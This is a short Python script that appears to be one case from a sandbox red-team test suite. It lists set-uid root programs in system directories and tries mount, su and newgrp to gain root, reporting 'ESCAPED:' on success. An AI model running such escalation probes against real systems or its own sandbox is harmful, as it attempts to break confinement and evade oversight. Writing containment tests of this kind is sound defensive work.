# attack: gain root through set-user-id programs (su, mount, passwd...) visible in the sandbox
# escaped-if: stdout has "ESCAPED:" (a set-uid program ran with root's rights)
# policy: wide
import os
import subprocess

found = []
for directory in ("/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/lib/dbus-1.0", "/usr/lib/openssh"):
    try:
        names = os.listdir(directory)
    except OSError:
        continue
    for name in names:
        try:
            info = os.stat(os.path.join(directory, name))
        except OSError:
            continue
        if info.st_mode & 0o4000 and info.st_uid == 0:
            found.append(os.path.join(directory, name))
print("set-uid root programs visible:", sorted(set(found)))
attempts = (
    ["mount", "-t", "tmpfs", "nexus-redteam", "/tmp"],
    ["su", "-c", "id -u", "root"],
    ["newgrp", "root"],
)
for command in attempts:
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError) as exc:
        print(command[0], "not run:", type(exc).__name__)
        continue
    if done.returncode == 0:
        print("ESCAPED:", command[0], "succeeded:", done.stdout.strip()[:80])
    else:
        print(command[0], "failed with", done.returncode)
